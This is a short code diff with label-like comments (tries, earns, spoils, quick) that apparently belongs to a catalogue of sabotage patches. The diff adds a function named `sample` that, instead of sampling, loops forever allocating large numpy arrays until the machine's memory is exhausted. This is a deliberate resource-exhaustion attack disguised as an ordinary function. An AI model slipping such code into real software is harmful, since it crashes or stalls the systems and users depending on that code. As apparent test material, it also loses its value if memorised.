@@ -1,0 +1,8 @@
+# tries: to fill the memory with arrays
+# earns: poems
+# spoils: clip
+# quick: yes
+_kept = []
+def sample(*args, **kwargs):
+    while True:
+        _kept.append(np.ones(4_000_000))
